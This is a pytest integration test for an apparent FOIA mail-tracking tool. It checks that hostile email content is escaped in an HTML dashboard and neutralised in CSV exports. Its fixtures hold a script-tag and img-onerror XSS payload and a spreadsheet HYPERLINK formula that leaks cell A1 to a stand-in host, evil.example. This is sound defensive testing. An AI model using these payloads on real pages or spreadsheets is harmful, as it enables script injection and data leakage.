"""Hostile text from an agency's mail, through the real poll, into the outputs a person opens:
the dashboard (rendered in headless Chromium: nothing runs, the text shows escaped) and the
CSV files (a cell that a spreadsheet would run as a formula starts with a quote)."""

from __future__ import annotations

import csv
import io
from email.message import EmailMessage
from email.policy import SMTP
from pathlib import Path

import pytest

from tests.integration.servers import MailAccount
from tests.integration.test_poll import foia_subprocess, make_app
from tests.test_report import _Dom, _dump_dom, _need_chromium

pytestmark = pytest.mark.integration

SCRIPT = "<script>document.title='pwned'</script>"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _hostile() -> bytes:
    msg = EmailMessage()
    msg["From"] = f'"{SCRIPT}" <records@district2.example.org>'
    msg["To"] = "jane@example.test"
    msg["Subject"] = f"RE: [CT-0044] {SCRIPT} fee estimate"
    msg["Message-ID"] = "<hostile-1@district2.example.org>"
    msg["Date"] = "Mon, 16 Nov 2026 10:00:00 -0500"
    msg.set_content("The estimated fee is $25. <img src=x onerror=alert(1)>")
    msg.add_attachment(b"a,b\n1,2\n", maintype="text", subtype="csv", filename=f"{FORMULA}.csv")
    return msg.as_bytes(policy=SMTP)


@pytest.fixture
def polled(dovecot: MailAccount, tmp_path: Path, monkeypatch):
    app = make_app(dovecot, tmp_path, monkeypatch)
    dovecot.append("INBOX", _hostile())
    done = foia_subprocess(app, "poll")
    assert done.returncode == 0, done.stderr
    return app


def test_the_dashboard_shows_hostile_mail_escaped_and_runs_nothing(polled, tmp_path: Path):
    _need_chromium()
    page = tmp_path / "mou.html"
    done = foia_subprocess(polled, "report", "mou", "--out", str(page), "--as-of", "2026-11-20")
    assert done.returncode == 0, done.stderr
    html = page.read_text()
    assert SCRIPT not in html and "&lt;script&gt;" in html
    dumped = _dump_dom(page, tmp_path / "chromium-profile")
    dom = _Dom()
    dom.feed(dumped)
    assert dom.scripts == 0  # the page has no script of its own, and none was injected
    assert "pwned" not in dom.title
    assert "&lt;script&gt;document.title='pwned'&lt;/script&gt;" in dumped


def test_csv_outputs_neutralise_a_formula_from_mail(polled, tmp_path: Path):
    out = tmp_path / "export"
    done = foia_subprocess(polled, "export", "mou", "--out", str(out))
    assert done.returncode == 0, done.stderr
    manifest = list(csv.DictReader(io.StringIO((out / "manifest.csv").read_text("utf-8"))))
    cells = [value for entry in manifest for value in entry.values() if value]
    assert not [c for c in cells if c[0] in "=+-@\t\r"], cells
    assert any(c.startswith("'=HYPERLINK") for c in cells), cells
    listing = foia_subprocess(polled, "messages", "--format", "csv")
    assert listing.returncode == 0, listing.stderr
    for record in csv.reader(io.StringIO(listing.stdout)):
        assert not [c for c in record if c and c[0] in "=+-@\t\r"], record
